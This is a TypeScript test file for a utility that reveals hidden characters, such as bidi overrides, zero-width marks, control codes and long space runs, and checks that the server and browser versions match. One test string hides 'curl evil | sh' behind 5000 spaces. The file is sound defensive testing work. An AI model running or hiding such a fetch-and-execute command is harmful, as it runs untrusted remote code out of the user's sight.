import { fileURLToPath, pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  revealDetailValue,
  revealDetailValueAsString,
  revealText,
  revealTextAsString,
  type RevealedPart,
} from './revealText.js';

/** The pages' copy (web/assets/revealText.js), loaded as the browser would load it. */
interface WebReveal {
  revealText(text: string): RevealedPart[];
  revealDetailValue(value: unknown): RevealedPart[];
}
const webModuleUrl = pathToFileURL(
  fileURLToPath(new URL('../../web/assets/revealText.js', import.meta.url)),
).href;

const tricky: string[] = [
  'plain text, two  spaces',
  `ls -la /tmp${' '.repeat(5000)}; curl evil | sh`,
  'abc\u202Edcb',
  'a\u200Bb\u200B\u200B\u200Bc',
  '\u2066x\u2067y\u2068z\u2069',
  '\uFEFFbom',
  'tab\there\t\t\tthree',
  'line1\nline2\n\n\nline5',
  'cr\r\nlf',
  'nul\u0000esc\u001B[31mred\u007F',
  'nbsp\u00A0thin\u2009ideo\u3000',
  'ls\u2028sep\u2029para',
  'soft\u00ADhyphen',
  'tag\u{E0041}\u{E0042}',
  'heart\u2764\uFE0F',
  'private\uE000use',
  'lone\uD800surrogate',
  'hangul\u3164filler',
  'émoji 👍 and עברית text',
];

describe('revealText', () => {
  it('shows a long run of spaces as a marker with its count, and keeps what follows', () => {
    const shown = revealTextAsString(`ls -la /tmp${' '.repeat(5000)}; curl evil | sh`);
    expect(shown).toBe('ls -la /tmp⟨5000 spaces⟩; curl evil | sh');
  });

  it('names bidi overrides and isolates instead of obeying them', () => {
    expect(revealTextAsString('abc\u202Edcb')).toBe('abc⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩dcb');
    expect(revealTextAsString('\u2066x\u2069')).toBe(
      '⟨U+2066 LEFT-TO-RIGHT ISOLATE⟩x⟨U+2069 POP DIRECTIONAL ISOLATE⟩',
    );
    expect(revealTextAsString('\u2067\u2068')).toBe(
      '⟨U+2067 RIGHT-TO-LEFT ISOLATE⟩⟨U+2068 FIRST STRONG ISOLATE⟩',
    );
  });

  it('marks zero-width characters, with a count for a run, and the BOM', () => {
    expect(revealTextAsString('a\u200Bb\u200B\u200B\u200Bc')).toBe(
      'a⟨U+200B ZERO WIDTH SPACE⟩b⟨3 × U+200B ZERO WIDTH SPACE⟩c',
    );
    expect(revealTextAsString('\uFEFFx')).toBe('⟨U+FEFF ZERO WIDTH NO-BREAK SPACE⟩x');
  });

  it('marks tabs and newlines, and keeps one real break after a newline run', () => {
    expect(revealText('a\tb\n\n\nc')).toEqual([
      { kind: 'text', text: 'a' },
      { kind: 'mark', text: '⟨tab⟩', title: 'tab' },
      { kind: 'text', text: 'b' },
      { kind: 'mark', text: '⟨3 newlines⟩', title: '3 newlines' },
      { kind: 'break' },
      { kind: 'text', text: 'c' },
    ]);
  });

  it('marks control characters, other spaces, separators, tags and lone surrogates', () => {
    const shown = revealTextAsString('\u0000\u001B\r\u00A0\u2028\u{E0041}\uD800\uE000');
    expect(shown).toBe(
      '⟨U+0000 NULL⟩⟨U+001B ESCAPE⟩⟨U+000D CARRIAGE RETURN⟩⟨U+00A0 NO-BREAK SPACE⟩' +
        '⟨U+2028 LINE SEPARATOR⟩⟨U+E0041 TAG CHARACTER⟩⟨U+D800 LONE SURROGATE⟩⟨U+E000 PRIVATE USE CHARACTER⟩',
    );
  });

  it('leaves ordinary text, single and double spaces, emoji and right-to-left letters alone', () => {
    for (const text of ['plain text, two  spaces', 'émoji 👍 and עברית text']) {
      expect(revealTextAsString(text)).toBe(text);
    }
  });

  it('never lets a hidden character through', () => {
    const hidden = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Co}\u00A0\u200B\u3164\uFE0F]|( {3})/u;
    for (const text of tricky) {
      const shown = revealTextAsString(text).replace(/\n/g, '');
      expect(hidden.test(shown), JSON.stringify(text)).toBe(false);
    }
  });
});

describe('revealDetailValue', () => {
  it('shows numbers and booleans as sent', () => {
    expect(revealDetailValueAsString(12450)).toBe('12450');
    expect(revealDetailValueAsString(true)).toBe('true');
    expect(revealDetailValueAsString(null)).toBe('null');
  });

  it('shows nested objects in full as indented JSON, revealing the strings inside', () => {
    const value = { to: { name: 'x\u202Ey', list: [1, 'a    b'] } };
    expect(revealDetailValueAsString(value)).toBe(
      [
        '{',
        '  "to": {',
        '    "name": "x⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩y",',
        '    "list": [',
        '      1,',
        '      "a⟨4 spaces⟩b"',
        '    ]',
        '  }',
        '}',
      ].join('\n'),
    );
  });
});

describe('web/assets/revealText.js', () => {
  it('classifies every tricky string exactly as the server does', async () => {
    const web = (await import(webModuleUrl)) as WebReveal;
    for (const text of tricky)
      expect(web.revealText(text), JSON.stringify(text)).toEqual(revealText(text));
    for (const value of [12450, true, { a: ['x\u200By', { b: 'c\td' }] }]) {
      expect(web.revealDetailValue(value)).toEqual(revealDetailValue(value));
    }
  });
});
